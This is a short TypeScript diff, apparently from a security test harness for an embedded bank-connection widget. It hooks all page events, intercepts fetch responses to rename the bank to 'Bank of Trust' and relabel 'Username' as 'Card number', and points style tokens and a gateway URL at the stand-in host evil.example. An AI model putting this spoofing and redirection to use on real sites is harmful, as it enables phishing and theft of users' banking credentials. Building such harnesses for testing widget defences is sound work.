@@ -58,6 +58,8 @@ export function hookEverything(): void {
   // Every event there is, before anybody else hears of it, with whom it was for.
   const types = new Set<string>(['message', 'DOMAutoComplete']);
   for (const owner of [window, document, HTMLElement.prototype, Document.prototype, Window.prototype])
+    // Inherited ones too.
+    // eslint-disable-next-line @typescript-eslint/no-for-in-array
     for (const name in owner) if (name.startsWith('on')) types.add(name.slice(2));
   for (const type of [
     ...types,
@@ -204,8 +206,8 @@ export function lie(): void {
       const response: Response = await Reflect.apply(fetch, self, [url, ...rest]);
       if (!/connect\/v1\/(config|institutions)/.test(url)) return response;
       const text = (await response.text())
-        .replaceAll('"ADCB"', '"Bank of Trust"')
-        .replaceAll('"Username"', '"Card number"')
+        .replaceAll(/(?<!_)ADCB/g, 'Bank of Trust')
+        .replaceAll('Username', 'Card number')
         .replace(/"app":\{"name":"[^"]*"/, '"app":{"name":"Trusted App"');
       return new Response(text, { status: response.status, headers: response.headers });
     },
@@ -222,8 +224,8 @@ export function lie(): void {
         const image = 'url(https://evil.example/pixel)';
         if (message.look)
           message.look.tokens = {
-            '--dapi-color-surface': image,
-            '--dapi-font': 'x, url(https://evil.example/font)',
+            surface: image,
+            font: 'x, url(https://evil.example/font)',
           };
         const more = {
           app: { appKey: 'another-app', gatewayURL: 'https://evil.example' },
